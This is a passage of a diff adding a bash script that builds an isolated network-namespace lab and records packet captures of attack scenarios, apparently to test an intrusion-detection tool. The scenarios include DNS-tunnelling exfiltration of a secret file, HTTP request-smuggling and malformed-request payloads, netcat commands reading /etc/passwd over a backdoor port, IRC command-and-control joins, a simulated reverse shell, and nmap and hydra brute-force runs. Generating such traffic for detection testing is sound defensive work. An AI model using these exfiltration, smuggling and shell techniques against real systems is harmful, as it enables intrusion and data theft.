+  local chunks i=0 chunk batch="$WORK/exfil-queries.txt"
+  mapfile -t chunks < <(head -c 6144 "$WORK/data/secret.bin" | base32 -w 50 | tr -d '=' | tr 'A-Z' 'a-z')
+  : >"$batch"
+  for chunk in "${chunks[@]}"; do
+    if ((i % 8 == 7)); then
+      printf '%s.%d.%s TXT\n' "$chunk" "$i" "$EXFIL_DOMAIN" >>"$batch"
+    else
+      printf '%s.%d.%s A\n' "$chunk" "$i" "$EXFIL_DOMAIN" >>"$batch"
+    fi
+    i=$((i + 1))
+  done
+  # One dig per query, a little apart, as a shell loop would send them.
+  local line
+  while read -r line; do
+    # shellcheck disable=SC2086
+    nsx attacker dig +short +tries=1 +time=2 $line >/dev/null 2>&1 || true
+    sleep 0.05
+  done <"$batch"
+  stop_capture
+}
+
+# raw_http NAME PRINTF_FORMAT...: one connection carrying a hand-made request.
+raw_http() {
+  local what="$1"
+  shift
+  # shellcheck disable=SC2059
+  printf "$@" | nsx attacker nc -N -w 3 "$VICTIM" 80 >/dev/null 2>&1 || true
+  say "  sent: $what"
+  sleep 0.3
+}
+
+scn_malformed_http() {
+  start_capture malformed_http 0 # full frames: the huge header spans segments
+  local H='Host: www.lab.test\r\n'
+  raw_http "bad method" 'G3T /index.html HTTP/1.1\r\n'"$H"'\r\n'
+  raw_http "unknown method" 'FOOBAR /index.html HTTP/1.1\r\n'"$H"'\r\n'
+  raw_http "missing version" 'GET /index.html\r\n'"$H"'\r\n'
+  raw_http "bad version" 'GET / HTTP/9.7\r\n'"$H"'\r\n'
+  raw_http "header without colon" 'GET / HTTP/1.1\r\n'"$H"'X-Broken-Header no colon here\r\n\r\n'
+  raw_http "huge header line" 'GET / HTTP/1.1\r\n'"$H"'X-Padding: %s\r\n\r\n' "$(head -c 12000 /dev/zero | tr '\0' 'A')"
+  raw_http "huge request target" 'GET /%s HTTP/1.1\r\n'"$H"'\r\n' "$(head -c 9000 /dev/zero | tr '\0' 'B')"
+  raw_http "non-printable bytes in target" 'GET /\x01\x02\x7f\xff HTTP/1.1\r\n'"$H"'\r\n'
+  raw_http "NUL byte in header" 'GET / HTTP/1.1\r\n'"$H"'User-Agent: x\x00y\r\n\r\n'
+  raw_http "Content-Length with Transfer-Encoding" \
+    'POST /api/echo HTTP/1.1\r\n'"$H"'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG'
+  raw_http "two different Content-Lengths" \
+    'POST /api/echo HTTP/1.1\r\n'"$H"'Content-Length: 4\r\nContent-Length: 11\r\n\r\nAAAAAAAAAAA'
+  raw_http "bare LF line endings and space before colon" 'GET / HTTP/1.1\n'"Host : www.lab.test"'\n\n'
+  stop_capture
+}
+
+scn_suspicious_ports() {
+  # Victim side: a "backdoor" shell port and an IRC port that answer.
+  ip netns exec "${P}victim" nc -lk "$VICTIM" 4444 </dev/null >/dev/null 2>&1 &
+  local l1=$!
+  ip netns exec "${P}victim" nc -lk "$VICTIM" 6667 </dev/null >/dev/null 2>&1 &
+  local l2=$!
+  ip netns exec "${P}attacker" nc -l "$ATTACKER" 4444 </dev/null >/dev/null 2>&1 &
+  local l3=$!
+  wait_for 10 "listeners on 4444/6667" listening victim tcp 6667
+  wait_for 10 "listener on 4444" listening victim tcp 4444
+  wait_for 10 "listener on the attacker" listening attacker tcp 4444
+  start_capture suspicious_ports 512
+  printf 'id\nuname -a\ncat /etc/passwd\n' | nsx attacker nc -N -w 3 "$VICTIM" 4444 >/dev/null 2>&1 || true
+  sleep 0.5
+  printf 'NICK bot4242\r\nUSER bot 0 * :bot\r\nJOIN #c2\r\n' | nsx attacker nc -N -w 3 "$VICTIM" 6667 >/dev/null 2>&1 || true
+  sleep 0.5
+  local port
+  for port in 23 31337 9001 12345; do
+    nsx attacker nc -w 2 "$VICTIM" "$port" </dev/null >/dev/null 2>&1 || true
+    sleep 0.5
+  done
+  # A reverse shell: the victim calls the attacker's port 4444.
+  printf 'reverse shell\n' | nsx victim nc -N -w 3 "$ATTACKER" 4444 >/dev/null 2>&1 || true
+  stop_capture
+  kill -TERM "$l1" "$l2" "$l3" 2>/dev/null || true
+  wait "$l1" "$l2" "$l3" 2>/dev/null || true
+}
+
+scn_external_inbound() {
+  start_capture external_inbound 512
+  # ssh from outside home_net (a login attempt that gives up), MySQL, Postgres.
+  nsx outside ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+    -o ConnectTimeout=5 "root@$VICTIM" true </dev/null >/dev/null 2>&1 || true
+  sleep 1
+  printf '\x0a\x00\x00\x01\x85\xa6\x03\x00' | nsx outside nc -N -w 3 "$VICTIM" 3306 >/dev/null 2>&1 || true
+  sleep 1
+  nsx outside nc -w 2 "$VICTIM" 5432 </dev/null >/dev/null 2>&1 || true
+  stop_capture
+}
+
+scn_mixed() {
+  start_capture mixed 512
+  benign_traffic "$MIXED_SECONDS" 5000 0 &
+  local benign=$!
+  sleep 15
+  nmap_at -Pn -sS -T4 "$VICTIM"
+  sleep 10
+  hydra_at "$SSH_USER" "ssh://$VICTIM"
+  wait "$benign"
+  stop_capture
+}
+
+# ---------------------------------------------------------------- main
+
+main() {
+  if [[ "${1:-}" == --list ]]; then printf '%s\n' "${ALL_SCENARIOS[@]}"; exit 0; fi
+  local up=0 scenarios=() s
+  if [[ "${1:-}" == --up ]]; then up=1; shift; fi
+  if (($# == 0)); then scenarios=("${ALL_SCENARIOS[@]}"); else scenarios=("$@"); fi
+  for s in "${scenarios[@]}"; do
+    declare -F "scn_$s" >/dev/null || die "Unknown scenario \"$s\" (see --list)"
+  done
+  check_tools
+  WORK="$(mktemp -d /tmp/netsentinel-lab.XXXXXX)"
+  trap teardown EXIT
+  trap 'exit 130' INT
+  trap 'exit 143' TERM
+  build_network
+  write_configs
+  start_services
+  if ((up)); then
+    say "lab up; namespaces ${P}*; press Ctrl-C to tear down"
+    while :; do sleep 60 & wait $! || true; done
+  fi
+  mkdir -p "$OUT"
+  for s in "${scenarios[@]}"; do
+    say "scenario $s"
+    "scn_$s"
+  done
+  say "done:"
+  for s in "${scenarios[@]}"; do
+    printf '%-20s %8s packets %9s bytes\n' "$s.pcap" "$(packet_count "$OUT/$s.pcap")" "$(stat -c %s "$OUT/$s.pcap")"
+  done
+}
+
+main "$@"
